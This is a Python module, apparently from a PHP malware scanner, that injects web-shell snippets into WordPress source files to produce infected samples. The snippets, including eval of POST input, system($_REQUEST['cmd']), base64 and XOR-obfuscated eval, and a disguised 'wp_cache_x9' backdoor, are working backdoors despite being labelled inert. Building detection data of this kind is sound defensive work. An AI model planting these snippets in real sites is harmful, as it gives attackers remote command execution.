"""Three ways in which attackers put code into files, with inert samples written here."""

import random
from collections.abc import Iterator, Sequence
from pathlib import Path

from scanners.php.syntax import parse

WORDPRESS = Path("/usr/share/wordpress")
ENCODED = b"c3lzdGVtKCRfR0VUWyd4J10pOw=="
BEFORE = (
    b'<?php @eval(base64_decode("%s")); ?>' % ENCODED,
    b"<?php if(isset($_POST['z1'])){@eval($_POST['z1']);exit;} ?>\n",
    b'<?php $k="bas"."e64_de"."code";@eval($k("%s"));?>' % ENCODED,
)
BLOCKS_BEHIND = (
    b"\n<?php\nif (isset($_REQUEST['cmd'])) {\n    system($_REQUEST['cmd']);\n}\n?>\n",
    b"\n<?php eval(base64_decode('%s')); ?>" % ENCODED,
)
STATEMENTS_BEHIND = (b"\nif (isset($_COOKIE['pw'])) { $f = $_COOKIE['pw']; $f($_POST['d']); die(); }\n",)
BETWEEN = (
    b"@eval($_POST['p4ss']);\n",
    b"""
function wp_cache_x9($d) {
\t$o = '';
\tfor ($i = 0; $i < strlen($d); $i++) { $o .= chr(ord($d[$i]) ^ 7); }
\teval($o);
}
wp_cache_x9($_POST['q']);
""",
    b"$zz = base64_decode('%s');\neval($zz);\n" % ENCODED,
    b"""
if (!empty($_GET['u'])) {
\tfile_put_contents(__DIR__ . '/a.php', $_POST['b']);
\tinclude __DIR__ . '/a.php';
}
""",
)
STYLES = ("before", "between", "behind")


def infected(source: bytes, style: str, chance: random.Random) -> bytes | None:
    """Returns a source with an injection of a style, None where it has no place for it."""
    if style == "before":
        return chance.choice(BEFORE) + source
    if style == "behind":
        closed = source.rstrip().endswith(b"?>")
        own = [b"\n?>" + block for block in BLOCKS_BEHIND]
        return source + chance.choice(BLOCKS_BEHIND if closed else (*STATEMENTS_BEHIND, *own))
    places = _ends_of_functions(source)
    if not places:
        return None
    at = chance.choice(places)
    return source[:at] + chance.choice(BETWEEN) + source[at:]


def sources(folder: Path, chance: random.Random) -> Iterator[tuple[Path, bytes]]:
    """Yields PHP files of a tree in an order of chance."""
    files: Sequence[Path] = sorted(folder.rglob("*.php"))
    for file in chance.sample(files, len(files)):
        yield file, file.read_bytes()


def _ends_of_functions(source: bytes) -> list[int]:
    """Returns where the line after each function but the last begins."""
    root = parse(source, lambda: False)
    functions = [] if root is None else [one for one in root.children if one.type == "function_definition"]
    ends = [source.find(b"\n", one.end_byte) + 1 for one in functions[:-1]]
    return [end for end in ends if end]
